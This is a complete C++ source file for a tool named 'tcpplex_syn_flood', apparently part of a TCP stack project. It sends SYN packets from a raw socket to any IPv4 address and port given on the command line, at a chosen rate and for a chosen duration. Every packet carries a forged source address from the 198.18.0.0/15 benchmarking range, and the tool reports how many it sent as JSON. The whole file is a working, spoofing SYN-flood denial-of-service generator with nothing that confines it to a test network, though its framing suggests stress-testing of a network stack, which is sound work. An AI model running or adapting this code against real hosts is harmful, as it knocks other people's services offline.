// tcpplex_syn_flood ADDR PORT SECONDS RATE: so many SYNs a second from addresses of 198.18.0.0/15
// (RFC 2544's, nobody's), for so long or until SIGTERM. Prints how many, as one line of JSON.
#include "stack/wire/pseudo_header.hpp"

#include <array>
#include <charconv>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <random>
#include <string_view>

#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <unistd.h>

namespace {

using clock = std::chrono::steady_clock;

struct syn {
    iphdr ip;
    tcphdr tcp;
    std::array<std::uint8_t, 4> mss;
};
static_assert(sizeof(syn) == 44);

constexpr std::size_t batch = 64;

/// All but what differs from one to the next; the kernel fills in the IP header's length and sum.
syn pattern(stack::address const& to, std::uint16_t port) {
    syn made{};
    made.ip.version = 4;
    made.ip.ihl = 5;
    made.ip.ttl = 64;
    made.ip.protocol = IPPROTO_TCP;
    made.ip.daddr = htonl(to.to_v4());
    made.tcp.dest = htons(port);
    made.tcp.doff = 6;
    made.tcp.syn = 1;
    made.tcp.window = htons(65535);
    made.mss = {2, 4, 0x05, 0xb4};
    return made;
}

void vary(syn& one, std::mt19937& chance) {
    one.ip.saddr = htonl(0xc6120000U | (chance() & 0x1ffffU));
    one.tcp.source = htons(static_cast<std::uint16_t>(1024U + (chance() & 0x7fffU)));
    one.tcp.seq = static_cast<std::uint32_t>(chance());
    one.tcp.check = 0;
    auto const segment = std::as_bytes(std::span(&one, 1)).subspan(sizeof(iphdr));
    auto sum = stack::wire::pseudo_header(
        stack::address::v4(ntohl(one.ip.saddr)), stack::address::v4(ntohl(one.ip.daddr)),
        stack::wire::protocol::tcp, static_cast<std::uint16_t>(segment.size()));
    sum.add(segment);
    one.tcp.check = htons(sum.value());
}

volatile std::sig_atomic_t stopped = 0;

int flood(stack::address const& to, std::uint16_t port, std::chrono::seconds time, unsigned rate) {
    int const raw = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (raw < 0) {
        std::perror("tcpplex_syn_flood: a raw socket (root is needed)");
        return 1;
    }
    sockaddr_in target{};
    target.sin_family = AF_INET;
    target.sin_addr.s_addr = htonl(to.to_v4());
    std::array<syn, batch> packets;
    packets.fill(pattern(to, port));
    std::array<iovec, batch> pieces;
    std::array<mmsghdr, batch> messages{};
    for (std::size_t i = 0; i < batch; ++i) {
        pieces[i] = {&packets[i], sizeof(syn)};
        messages[i].msg_hdr.msg_name = &target;
        messages[i].msg_hdr.msg_namelen = sizeof target;
        messages[i].msg_hdr.msg_iov = &pieces[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    int const pace = ::timerfd_create(CLOCK_MONOTONIC, TFD_CLOEXEC);
    itimerspec ticks{};
    ticks.it_interval.tv_nsec = ticks.it_value.tv_nsec =
        static_cast<long>(1'000'000'000ULL * batch / rate);
    ::timerfd_settime(pace, 0, &ticks, nullptr);
    std::mt19937 chance(1);
    std::uint64_t sent = 0;
    auto const begun = clock::now();
    while (stopped == 0 && clock::now() - begun < time) {
        for (auto& each : packets)
            vary(each, chance);
        // What the device's queue does not take is lost, and not counted.
        if (int const count = ::sendmmsg(raw, messages.data(), batch, 0); count > 0)
            sent += static_cast<std::uint64_t>(count);
        std::uint64_t passed = 0;
        if (::read(pace, &passed, sizeof passed) < 0) break;
    }
    ::close(pace);
    ::close(raw);
    std::printf("{\"sent\": %llu, \"seconds\": %.3f}\n", static_cast<unsigned long long>(sent),
                std::chrono::duration<double>(clock::now() - begun).count());
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    auto const number = [](std::string_view text) {
        unsigned value = 0;
        auto const [end, error] = std::from_chars(text.begin(), text.end(), value);
        return error == std::errc{} && end == text.end() ? value : 0;
    };
    auto const to = argc == 5 ? stack::address::parse(argv[1]) : std::nullopt;
    unsigned const port = argc == 5 ? number(argv[2]) : 0;
    unsigned const seconds = argc == 5 ? number(argv[3]) : 0;
    unsigned const rate = argc == 5 ? number(argv[4]) : 0;
    if (!to || !to->is_v4() || port == 0 || port > 65535 || seconds == 0 || rate <= batch) {
        std::fputs("usage: tcpplex_syn_flood IPV4-ADDR PORT SECONDS RATE (over 64)\n", stderr);
        return 2;
    }
    std::signal(SIGTERM, [](int) { stopped = 1; });
    return flood(*to, static_cast<std::uint16_t>(port), std::chrono::seconds(seconds), rate);
}
